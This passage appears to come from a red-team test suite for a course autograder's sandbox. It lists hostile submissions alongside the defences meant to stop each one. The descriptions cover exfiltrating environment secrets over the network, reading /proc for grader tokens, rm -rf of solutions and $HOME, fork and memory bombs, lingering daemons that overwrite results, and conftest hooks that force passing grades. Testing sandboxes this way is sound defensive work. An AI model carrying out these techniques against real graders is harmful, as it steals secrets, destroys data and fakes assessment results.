           "no reply = the call failed (ChildDied)", C, "prepend", "import os\nos._exit(0)\n",
           expect="zero", output=r"exited with status 0"),
    Attack("fake_summary_correct_code", "prints a fake pytest summary at import; the code is otherwise right",
           "verdicts come from the reply and the parent's assertions, never from output",
           W, "prepend", FAKE_SUMMARY, expect="full"),
    Attack("fake_summary_stub", "prints a fake pytest summary and 'solved' line from an unsolved stub",
           "verdicts come from the reply and the parent's assertions, never from output",
           W, "prepend", FAKE_SUMMARY, base="stub", expect="zero"),
    Attack("fake_results_json_stub", "prints a fake Gradescope results.json and grades.csv row from a stub",
           "output is text for the learner, never parsed", C, "prepend", FAKE_RESULTS_JSON, base="stub",
           expect="zero"),
    Attack("eq_always_true", "returns an object whose __eq__ is always True",
           "only JSON-plain data crosses back; comparisons run in the parent", S, "append", EQ_ALWAYS_TRUE,
           expect="zero", output=r"cannot be sent back|ResultNotPlainData"),
    Attack("eq_always_true_list", "returns a list subclass whose __eq__ is always True (it passes _plain)",
           "the value crosses as a plain list; the parent compares plain lists", W, "append",
           EQ_ALWAYS_TRUE_LIST, expect="zero"),
    Attack("monkeypatch_builtins", "replaces builtins.isinstance/len/NotImplementedError and json.dumps/loads "
           "to fake a passing reply", "the parent decodes and judges the reply with its own json and builtins",
           W, "prepend", MONKEYPATCH_BUILTINS, base="stub", expect="zero"),
    Attack("hidden_test_exfil", "records every request the harness gets (found in its frames) in a file of "
           "its copy and raises with all the earlier ones: an instructor test's inputs would reach the feedback "
           "of a later visible test", "hidden tests run after the visible ones; their output is never shown",
           W, "prepend", HIDDEN_EXFIL, expect="zero"),
    Attack("huge_reply", "returns 8 MB on one line: the 64 KiB output cap does not apply to replies, and tests "
           "quote wrong values in their messages", "reports cut each test's reason to 4000 characters",
           W, "append", HUGE_REPLY, expect="zero"),
    Attack("forge_reply", "wrong code (leaks threads) that patches json.dumps to scrub the evidence "
           "(left_alive, starts) from the scenario's reply", "the harness encodes and writes its reply with references taken before the learner's code runs",
           T, "append", FORGE_REPLY, expect="less"),
    Attack("forge_crawl", "a crawler that fetches nothing: it finds the test's LinkSite through gc and returns "
           "the site's own list of URLs and statuses", "the tests also count the requests the site received, the "
           "sockets made and the fetches in flight", "06_futures_tasks/bounded_crawler.py", "append", FORGE_CRAWL,
           expect="less"),

    # reading what it should not
    Attack("steal_solution", "a stub that looks for solutions/ (real repo path, course copy, relative paths, "
           "walking up) and execs the reference solution", "bubblewrap: only the submission copy, runtime and "
           "harness are mounted", S, "append", STEAL_SOLUTION, base="stub", expect="zero"),
    Attack("probe_visibility", "looks for the out dir, batch folder, course copy, tests/, solutions/, "
           "instructor tests, canaries (absolute and relative) and walks / for graded files",
           "bubblewrap mount namespace", S, "prepend", PROBE_VISIBILITY, expect="zero", probe="visibility"),
    Attack("probe_secrets", "reads its environment and every /proc/*/environ and cmdline for tokens "
           "(GRADER_TOKEN and friends are set in the grader's environment)",
           "the template's environment is rebuilt from scratch; PID namespace hides the grader",
           W, "prepend", PROBE_SECRETS, expect="zero", probe="secrets"),
    Attack("probe_sandbox", "reports its rlimits, PIDs, uid, network interfaces and inherited fds",
           "rlimits, PID/net namespaces, dropped uid, only the call's pipes", S, "prepend", PROBE_SANDBOX,
           expect="zero", probe="sandbox"),

    # writing where it should not
    Attack("overwrite_results", "writes a fake results.json/grades.csv/junit.xml into the out dir (its path, "
           "../results.json, /autograder/results/results.json, --out found in /proc/*/cmdline)",
           "the out dir is not mounted; reports are written by the grader after the calls",
           W, "prepend", OVERWRITE_RESULTS, expect="full"),
    Attack("rm_rf_outside", "rm -rf of the course copy's solutions/, tests/, course.yml, a canary tree, "
           "$HOME, the batch folder, the out dir, instructor tests, and relative ../ paths",
           "bubblewrap: none of those paths exist inside", C, "prepend", RM_RF_OUTSIDE, expect="full"),
    Attack("probe_writable", "tries to write the harness, the Python runtime (a .pth there would run in the "
           "grader), the real checkout, the out dir, /proc/sys knobs, sysrq-trigger, oom_score_adj",
           "read-only binds, dropped uid without capabilities", S, "prepend", PROBE_WRITABLE, expect="zero",
           probe="writable"),
    Attack("tamper_siblings", "appends os._exit(9) to every other submission's warmup.py it can find "
           "(the batch folder, /tmp, the grader's work folder)",
           "each submission's sandbox sees only its own copy; inputs are copied first", W, "prepend",
           TAMPER_SIBLINGS, expect="zero", probe="siblings"),

    # network
    Attack("net_exfiltrate", "sends its environment over TCP and UDP to a listener on the host "
           "(non-loopback address and 127.0.0.1)", "network namespace: only its own loopback",
           W, "prepend", NET_EXFILTRATE, expect="full"),
    Attack("net_connect_reports", "the function needs a connection to a non-loopback address",
           "network namespace: the connect fails and the call reports the OSError", C, "append", NET_CONNECT,
           expect="zero", output=r"OSError|[Uu]nreachable|[Rr]efused"),

    Attack("loopback_squatter", "a double-forked daemon that outlives each call of lesson 03's echo server and "
           "connects to every port of 127.0.0.1 with garbage, to break the loopback servers of later calls",
           "child subreaper + kill of every descendant after each call; each sandbox's own network namespace",
           "03_selectors/echo_server.py", "prepend", LOOPBACK_SQUATTER, expect="any", lasting=True),

    Attack("capstone_port_after_close", "the capstone's close() hands the service's port to a double-forked daemon "
           "that keeps accepting and answers wrong numbers, so that close() looks clean and new connections are "
           "not refused",
           "the tests connect after close() and expect a refusal; kill of every descendant after each call",
           "12_coroutine_models/fib_pool.py", "append", PORT_AFTER_CLOSE, expect="less", lasting=True),

    # time
    Attack("infinite_loop", "an endless loop at import", "per-call deadline, then SIGKILL of the call's processes",
           S, "prepend", INFINITE_LOOP, expect="zero", hang=True, output=r"timed out"),
    Attack("deadlock", "two threads taking two locks in opposite order, joined at import",
           "per-call deadline; the thread stacks are reported", S, "prepend", DEADLOCK, expect="zero", hang=True,
           output=r"timed out[\s\S]*(Thread 0x|Current thread|_rt_one|_rt_two)"),
    Attack("non_daemon_thread", "a non-daemon thread that never ends (the code is otherwise right)",
           "the harness leaves with os._exit; the template kills what is left", S, "prepend", NON_DAEMON_THREAD,
           expect="full", lasting=True),
    Attack("ignore_signals", "ignores SIGTERM, SIGINT, SIGUSR1 (the stack dump), SIGXCPU... then hangs",
           "SIGKILL cannot be ignored", S, "prepend", IGNORE_SIGNALS, expect="zero", hang=True,
           output=r"timed out", lasting=True),
    Attack("double_fork_daemon", "a double-forked, setsid daemon that outlives the call and later "
           "overwrites results.json and grades.csv", "child subreaper + kill of every descendant after each "
           "call; PID namespace; out dir not mounted", W, "prepend", DOUBLE_FORK_DAEMON, expect="full", lasting=True),
    Attack("kill_everything", "kill -1 (SIGTERM, SIGKILL) and kill of every visible PID, only inside a PID "
           "namespace", "PID namespace: only its own sandbox can be hit; a dead template is replaced",
           W, "prepend", KILL_EVERYTHING, expect="any", lasting=True),

    # resources
    Attack("stdout_flood", "writes to stdout and stderr without end", "output capped at 64 KiB per call; deadline",
           S, "prepend", STDOUT_FLOOD, expect="zero", hang=True, output=r"timed out"),
    Attack("stdout_burst", "writes about 20 MB at import, then the right answer", "the output cap; output is "
           "never judged", W, "prepend", STDOUT_BURST, expect="full"),
    Attack("fork_bomb", "forks until something stops it (capped at 1000, children sleep)",
           "RLIMIT_NPROC for a dropped uid; every descendant killed after the call", S, "prepend", FORK_BOMB,
           expect="zero", probe="fork_bomb", lasting=True),
    Attack("memory_hog", "allocates (and touches) memory until something stops it (capped at 4 GiB)",
           "RLIMIT_AS", P, "prepend", MEMORY_HOG, expect="zero", probe="memory_hog"),
    Attack("fork_memory", "4 forked children each hold up to 768 MiB at once: each under the address-space "
           "limit, together above it (in 01.4, whose tests allow 60 s a call)",
           "the template adds up the memory (Pss) of all of a call's processes every 50 ms and kills the call past the limit", P, "prepend", FORK_MEMORY,
           expect="zero", probe="fork_memory"),
    Attack("file_size_bomb", "ignores SIGXFSZ and writes one file until something stops it (capped at 1 GiB)",
           "RLIMIT_FSIZE", C, "prepend", FILE_SIZE_BOMB, expect="zero", probe="file_size_bomb"),
    Attack("disk_fill", "many files each under the file-size limit, in its copy (host disk) and in the "
           "sandbox's /tmp and /dev/shm (host memory), capped at 256 MiB each",
           "the copy is mounted read-only; /tmp and /dev/shm are tmpfs of bounded size", C, "prepend", DISK_FILL, expect="zero", probe="disk_fill", lasting=True),

    # crashes and broken files
    Attack("segfault_ctypes", "a segfault through ctypes.string_at(0) at import", "the call's process dies alone; "
           "the runner reports the signal", C, "prepend", SEGFAULT, expect="zero", output=r"SIGSEGV"),
    Attack("recursion_crash", "sys.setrecursionlimit(10**8) and unbounded recursion at import (a C stack "
           "overflow in repr of 100,000 nested lists)", "the call's process dies alone; the runner reports the "
           "signal", C, "prepend", RECURSION_CRASH, expect="zero", output=r"SIGSEGV|RecursionError|MemoryError"),
    Attack("syntax_error", "a syntax error in the file", "the import fails inside the child; reported",
           C, "append", "\ndef broken(:\n    pass\n", expect="zero", output=r"SyntaxError"),
    Attack("binary_garbage", "the .py file is binary garbage (NUL bytes, invalid UTF-8)",
           "the import fails inside the child; reported", W, "replace",
           bytes(range(256)) * 4 + b"\x00\x89PNG\r\n\x1a\n\xff\xfe garbage", expect="zero"),
    Attack("missing_file", "the task's file is missing", "the runner reports the missing file",
           S, "delete", expect="zero", output=r"missing|does not exist|[Nn]o such file"),

    # files that try to run before the harness
    Attack("sitecustomize_and_pth", "sitecustomize.py, usercustomize.py and a .pth (each os._exit(7)) in "
           "the submission root and in every module folder", "python -I; the folder is never a site dir",
           files=tuple((f"{d}{n}", EXIT7) for d in ("", "00_start_here/", "01_processes_threads/")
                       for n in ("sitecustomize.py", "usercustomize.py", "zz_redteam.pth")), expect="full", lasting=True),
    Attack("stdlib_shadow", "json.py, struct.py, traceback.py, types.py, faulthandler.py, selectors.py, "
           "socket.py, coursekit.py, pytest.py (each os._exit(5)) in the submission root and 00_start_here/",
           "the harness imports (and the template preloads) them before the folder is on sys.path; the "
           "tests run in the grader, not in the submission", files=tuple(
               (f"{d}{n}.py", EXIT5) for d in ("", "00_start_here/")
               for n in ("json", "struct", "traceback", "types", "faulthandler", "selectors", "socket",
                         "coursekit", "pytest")), expect="full", lasting=True),
    Attack("conftest_injection", "a stub plus conftest.py files (a hook that turns every report into a pass) "
           "and a pytest.ini in the submission", "pytest runs in the grader with the course's rootdir and "
           "files; the submission is only --target", W, "none", base="stub", files=(
               ("conftest.py", CONFTEST), ("00_start_here/conftest.py", CONFTEST),
               ("01_processes_threads/conftest.py", CONFTEST),
               ("pytest.ini", "[pytest]\naddopts = -p no:coursekit.pytest_plugin\n")), expect="zero"),
)

# Reports must survive what a learner's code prints or raises: these run in batches of their
# own (with a control) so that a grader that crashes on them takes nothing else down.
REPORT_ATTACKS: tuple[Attack, ...] = (
    Attack("control_chars", "prints NUL, ANSI escapes, C1 controls, ]]>, </failure>, invalid UTF-8 and raises "
           "with control characters", "output decoded with errors=replace; reports must escape or drop what "
           "XML/JSON cannot hold", W, "prepend", CONTROL_CHARS, base="stub", expect="zero"),
    Attack("lone_surrogates", "raises an exception whose message holds lone surrogates (\\ud800)",
           "reports must survive text that is not encodable as UTF-8", W, "prepend", LONE_SURROGATES,
           base="stub", expect="zero"),
)

BY_NAME = {a.name: a for a in ATTACKS + REPORT_ATTACKS}
CONTROLS = ("control", "control_lean")

# the modules every hostile submission carries: those the attacks change (a lasting attack
# carries every module anyway, so its target need not make every other submission bigger)
LEAN = tuple(sorted({a.target.split("/")[0] for a in ATTACKS + REPORT_ATTACKS if a.target and not a.lasting}
                    | {f.split("/")[0] for a in ATTACKS for f, _ in a.files if "/" in f and not a.lasting}))
